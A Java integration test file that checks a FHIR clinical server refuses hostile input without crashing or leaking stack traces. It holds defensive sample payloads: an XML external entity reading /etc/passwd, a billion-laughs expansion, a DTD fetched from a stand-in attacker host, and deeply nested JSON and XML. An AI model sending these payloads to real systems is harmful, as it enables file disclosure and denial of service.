package org.rasguard.server.it;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.rasguard.cdshooks.CdsServices;

/**
 * Hostile input on the open (loopback) suite server: XML external entities, entity expansion, deep
 * JSON nesting, absurd numbers; each gets a 4xx, never a 500 or a stack trace. And the per-client rate
 * limit, on the security server.
 */
@ExtendWith({SharedServer.class, SecurityServer.class})
class SecurityHostileInputIT {

    private static Http.Response post(String url, String body, String contentType) {
        return Http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(url))
                .header("Content-Type", contentType)
                .header("Accept", "application/fhir+json")
                .POST(HttpRequest.BodyPublishers.ofString(body, StandardCharsets.UTF_8)));
    }

    private static void assertRefusedCleanly(Http.Response response) {
        assertThat(response.status()).as(response.body()).isBetween(400, 499);
        assertThat(response.body()).doesNotContain("\tat ", ".java:", "Exception:", "StackOverflow");
    }

    @Test
    void anOpenServerSaysAtStartThatItServesLoopbackOnly(ServerProcess server) {
        assertThat(server.output())
                .anyMatch(line -> line.contains("the API is open; serving loopback"))
                .anyMatch(line -> line.contains("the service is open; serving loopback"));
    }

    @Test
    void xmlExternalEntitiesAreNeverResolved(ServerProcess server) {
        String xxe = """
                <?xml version="1.0"?>
                <!DOCTYPE Observation [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
                <Observation xmlns="http://hl7.org/fhir"><status value="final"/>
                <code><text value="&secret;"/></code></Observation>""";
        Http.Response response = post(server.fhirBase() + "/Observation", xxe, "application/fhir+xml");
        assertThat(response.status()).as(response.body()).isEqualTo(400);
        assertThat(response.body()).contains("xml-doctype").doesNotContain("root:");
        String laughs = """
                <?xml version="1.0"?>
                <!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
                <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
                <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
                <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
                <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">]>
                <Observation xmlns="http://hl7.org/fhir"><status value="final"/><code><text value="&lol6;"/></code></Observation>""";
        assertThat(post(server.fhirBase() + "/Observation", laughs, "application/fhir+xml")
                        .status())
                .isEqualTo(400);
    }

    /**
     * XML that is no resource, posted to be stored or to {@code $validate}: a 400 (the validation could
     * not be performed, FHIR R4 Resource-validate), and nothing on the server's output: the validator's
     * DOM parser printed "[Fatal Error] ..." with what it choked on, and its failure was logged as an error.
     */
    @Test
    void xmlThatIsNotWellFormedIsRefusedWithoutNoiseInTheLog(ServerProcess server) {
        String[] bodies = {
            "<?xml version=\"1.0\"?>\n<!DOCTYPE Observation SYSTEM \"http://attacker.example/x.dtd\">\n"
                    + "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/></Observation>",
            "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/><code><text value=\"KRAS\"/>",
            "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/></Observation><Observation/>",
            "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/><note><text value=\"a &#1; b\"/>"
                    + "</note></Observation>",
        };
        int mark = server.output().size();
        for (String path : new String[] {"/Observation", "/Observation/$validate"}) {
            for (String body : bodies) {
                Http.Response response = post(server.fhirBase() + path, body, "application/fhir+xml");
                assertThat(response.status())
                        .as(path + " " + body + ": " + response.body())
                        .isEqualTo(400);
            }
        }
        List<String> log = server.output();
        assertThat(log.subList(mark, log.size()))
                .noneMatch(line -> line.contains("[Fatal Error]") || line.contains(" ERROR "));
    }

    /**
     * What an outside attack found on the XML and {@code $validate} paths: an XML narrative's {@code &nbsp;}
     * (which HAPI reads) is validated as HAPI read it, with no "[Fatal Error]" on the output and no
     * "Failed to parse input" in place of the findings; a Turtle body is refused before HAPI's RDF parser
     * (a 500, and its reader logged the body); a {@code $validate} whose resource parameter holds a value
     * is a 400 (a 500).
     */
    @Test
    void xmlNarrativesTurtleAndValuelessValidateParameters(ServerProcess server) {
        int mark = server.output().size();
        String narrative = "<Observation xmlns=\"http://hl7.org/fhir\"><text><status value=\"generated\"/>"
                + "<div xmlns=\"http://www.w3.org/1999/xhtml\">KRAS&nbsp;G12D &copy; lab</div></text>"
                + "<status value=\"final\"/><code><text value=\"KRAS mutation analysis\"/></code>"
                + "<valueString value=\"detected\"/></Observation>";
        Http.Response stored =
                Http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(server.fhirBase() + "/Observation"))
                        .header("Content-Type", "application/fhir+xml")
                        .header("Accept", "application/fhir+json")
                        .header("Prefer", "return=OperationOutcome")
                        .POST(HttpRequest.BodyPublishers.ofString(narrative, StandardCharsets.UTF_8)));
        assertThat(stored.status()).as(stored.body()).isEqualTo(201);
        assertThat(stored.body()).doesNotContain("Failed to parse");
        Http.Response validated = post(server.fhirBase() + "/Observation/$validate", narrative, "application/fhir+xml");
        assertThat(validated.status()).as(validated.body()).isEqualTo(200);
        assertThat(validated.body()).doesNotContain("Failed to parse");

        // XML 1.1 reads &#x1;, which no FHIR string may hold: ingest refuses it, so $validate must say so too.
        String control = "<?xml version=\"1.1\"?><Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/>"
                + "<code><text value=\"KRAS&#x1;\"/></code></Observation>";
        Http.Response refusedControl = post(server.fhirBase() + "/Observation", control, "application/fhir+xml");
        assertThat(refusedControl.status()).as(refusedControl.body()).isEqualTo(400);
        Http.Response validatedControl =
                post(server.fhirBase() + "/Observation/$validate", control, "application/fhir+xml");
        assertThat(validatedControl.status()).as(validatedControl.body()).isEqualTo(200);
        assertThat(validatedControl.body()).contains("\"severity\":\"error\"", "invalid-character");

        // No resource at all: the validation cannot be performed (FHIR R4 Resource-validate), 400, not 200
        // "validated"; a resource HAPI's strict parser refuses but can read leniently: 200 with located errors.
        for (String notAResource : new String[] {"{}", "{\"resourceType\":\"observation\"}", "[1]"}) {
            Http.Response refused =
                    post(server.fhirBase() + "/Observation/$validate", notAResource, "application/fhir+json");
            assertThat(refused.status())
                    .as(notAResource + ": " + refused.body())
                    .isEqualTo(400);
        }
        Http.Response located = post(
                server.fhirBase() + "/Observation/$validate",
                "{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"x\"},\"bogus\":1}",
                "application/fhir+json");
        assertThat(located.status()).as(located.body()).isEqualTo(200);
        assertThat(located.body()).contains("\"severity\":\"error\"", "bogus");

        // Latin-1 bytes sent as UTF-8 were stored with U+FFFD in their place: refused instead.
        for (String type : new String[] {"application/fhir+xml", "application/fhir+json;charset=utf-8"}) {
            String text = type.contains("xml")
                    ? "<Patient xmlns=\"http://hl7.org/fhir\"><name><family value=\"M\u00fcller\"/></name></Patient>"
                    : "{\"resourceType\":\"Patient\",\"name\":[{\"family\":\"M\u00fcller\"}]}";
            Http.Response latin1 =
                    Http.send(java.net.http.HttpRequest.newBuilder(java.net.URI.create(server.fhirBase() + "/Patient"))
                            .header("Content-Type", type)
                            .header("Accept", "application/fhir+json")
                            .POST(HttpRequest.BodyPublishers.ofByteArray(text.getBytes(StandardCharsets.ISO_8859_1))));
            assertThat(latin1.status()).as(type + ": " + latin1.body()).isEqualTo(400);
            assertThat(latin1.body()).contains("bad-charset-encoding");
        }

        for (String type : new String[] {"application/fhir+turtle", "text/turtle"}) {
            Http.Response turtle = post(server.fhirBase() + "/Observation", "<urn:a> <urn:b> <urn:c> .", type);
            assertThat(turtle.status()).as(type + ": " + turtle.body()).isEqualTo(415);
        }

        // An XML document in no or another namespace was stored as a FHIR resource (HAPI reads local names).
        for (String xml : new String[] {
            "<Patient><gender value=\"male\"/></Patient>",
            "<Patient xmlns=\"http://example.org/other\"><gender value=\"male\"/></Patient>",
            "<Bundle xmlns=\"http://hl7.org/fhir\"><type value=\"transaction\"/><entry><resource><Patient xmlns=\"urn:x\">"
                    + "<gender value=\"male\"/></Patient></resource><request><method value=\"POST\"/><url value=\"Patient\"/>"
                    + "</request></entry></Bundle>"
        }) {
            String url = server.fhirBase() + (xml.startsWith("<Bundle") ? "" : "/Patient");
            Http.Response foreign = post(url, xml, "application/fhir+xml");
            assertThat(foreign.status()).as(xml + ": " + foreign.body()).isEqualTo(400);
            assertThat(foreign.body()).contains("xml-namespace");
        }
        Http.Response prefixed = post(
                server.fhirBase() + "/Patient",
                "<f:Patient xmlns:f=\"http://hl7.org/fhir\"><f:gender value=\"male\"/></f:Patient>",
                "application/fhir+xml");
        assertThat(prefixed.status()).as(prefixed.body()).isEqualTo(201);

        // $validate validates one resource of its type: HAPI answered "No issues detected" for a Patient at
        // Observation/$validate.
        String patient = "{\"resourceType\":\"Patient\",\"gender\":\"male\"}";
        for (String body : new String[] {
            patient,
            "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"resource\",\"resource\":" + patient + "}]}",
            "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"resource\",\"resource\":" + patient
                    + "},{\"name\":\"resource\",\"resource\":" + patient + "}]}"
        }) {
            Http.Response mismatch = post(server.fhirBase() + "/Observation/$validate", body, "application/fhir+json");
            assertThat(mismatch.status()).as(body + ": " + mismatch.body()).isEqualTo(400);
            assertThat(mismatch.body()).contains("validate-resource-mismatch");
        }
        assertThat(post(server.fhirBase() + "/Patient/$validate", patient, "application/fhir+json")
                        .status())
                .isEqualTo(200);

        for (String value : new String[] {
            "\"valueString\":\"x\"", "\"valueInteger\":5", "\"valueReference\":{\"reference\":\"Observation/1\"}"
        }) {
            Http.Response valueless = post(
                    server.fhirBase() + "/Observation/$validate",
                    "{\"resourceType\":\"Parameters\",\"parameter\":[{\"name\":\"resource\"," + value + "}]}",
                    "application/fhir+json");
            assertThat(valueless.status()).as(value + ": " + valueless.body()).isEqualTo(400);
        }
        List<String> log = server.output();
        assertThat(log.subList(mark, log.size()))
                .noneMatch(line -> line.contains("[Fatal Error]") || line.contains(" ERROR "));
    }

    @Test
    void deeplyNestedJsonIsRefusedNotAStackOverflow(ServerProcess server) {
        String deepFhir = "{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"x\"},\"note\":"
                + "[".repeat(100_000) + "]".repeat(100_000) + "}";
        assertRefusedCleanly(post(server.fhirBase() + "/Observation", deepFhir, "application/fhir+json"));

        StringBuilder extensions =
                new StringBuilder("{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"x\"}");
        int depth = 490; // two JSON levels per extension: just under Jackson's limit of 1000
        for (int i = 0; i < depth; i++) {
            extensions.append(",\"extension\":[{\"url\":\"http://example.org/x\"");
        }
        extensions.append("}]".repeat(depth)).append("}");
        Http.Response nested = post(server.fhirBase() + "/Observation", extensions.toString(), "application/fhir+json");
        assertThat(nested.status()).as(nested.body()).isLessThan(500);

        String deepXml =
                "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/><code><text value=\"x\"/></code>"
                        + "<extension url=\"http://example.org/x\">".repeat(5_000) + "</extension>".repeat(5_000)
                        + "</Observation>";
        Http.Response xml = post(server.fhirBase() + "/Observation", deepXml, "application/fhir+xml");
        assertThat(xml.status()).as(xml.body()).isLessThan(500);
        assertThat(xml.body()).doesNotContain("\tat ", "StackOverflow");

        // 130 nested extensions are 133 XML levels but some 260 once read as JSON (each an array and an object):
        // past the validator's JSON reader (255), a 500 before the XML bound was halved.
        String nestedExtensions = "<Observation xmlns=\"http://hl7.org/fhir\">"
                + "<extension url=\"http://example.org/x\">".repeat(130) + "<valueString value=\"x\"/>"
                + "</extension>".repeat(130)
                + "<status value=\"final\"/><code><text value=\"x\"/></code></Observation>";
        for (String path : new String[] {"/Observation", "/Observation/$validate"}) {
            Http.Response refused = post(server.fhirBase() + path, nestedExtensions, "application/fhir+xml");
            assertThat(refused.status()).as(path + ": " + refused.body()).isEqualTo(400);
            assertThat(refused.body()).contains("xml-too-deep");
        }

        String deepCds =
                "{\"hook\":\"order-sign\",\"context\":" + "{\"a\":".repeat(50_000) + "1" + "}".repeat(50_000) + "}";
        assertRefusedCleanly(
                post(server.baseUrl() + "/cds-services/" + CdsServices.ORDER_SIGN_ID, deepCds, "application/json"));
    }

    @Test
    void absurdNumbersAreRefusedOrStoredNeverA500(ServerProcess server) {
        for (String value :
                new String[] {"1e999999999", "-1e-999999999", "9".repeat(5_000), "1" + "0".repeat(900) + ".5"}) {
            String body = "{\"resourceType\":\"Observation\",\"status\":\"final\",\"code\":{\"text\":\"x\"},"
                    + "\"valueQuantity\":{\"value\":" + value + "}}";
            Http.Response response = post(server.fhirBase() + "/Observation", body, "application/fhir+json");
            assertThat(response.status())
                    .as(value.substring(0, Math.min(20, value.length())) + ": " + response.body())
                    .isLessThan(500);
        }
        String xml =
                "<Observation xmlns=\"http://hl7.org/fhir\"><status value=\"final\"/><code><text value=\"x\"/></code>"
                        + "<valueQuantity><value value=\"1e999999999\"/></valueQuantity></Observation>";
        Http.Response response = post(server.fhirBase() + "/Observation", xml, "application/fhir+xml");
        assertThat(response.status()).as(response.body()).isLessThan(500);
    }

    @Test
    void aClientOverTheRateLimitGets429AndRecovers(SecurityServer.Setup setup) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(8);
        try {
            List<Future<Integer>> statuses = new ArrayList<>();
            for (int i = 0; i < 1_200; i++) {
                statuses.add(pool.submit(() ->
                        Http.send(setup.request("/cds-services", null).GET()).status()));
            }
            int limited = 0;
            for (Future<Integer> status : statuses) {
                int code = status.get();
                assertThat(code).isIn(401, 429);
                limited += code == 429 ? 1 : 0;
            }
            assertThat(limited).isPositive();
        } finally {
            pool.shutdown();
        }
        assertThat(Http.get(setup.server.baseUrl() + "/health").status())
                .as("health is never limited")
                .isEqualTo(200);
        long deadline = System.nanoTime() + 5_000_000_000L;
        int status;
        do {
            Thread.sleep(200);
            status = Http.send(setup.request("/fhir/metadata", null).GET()).status();
        } while (status == 429 && System.nanoTime() < deadline);
        assertThat(status).isEqualTo(200);
    }
}
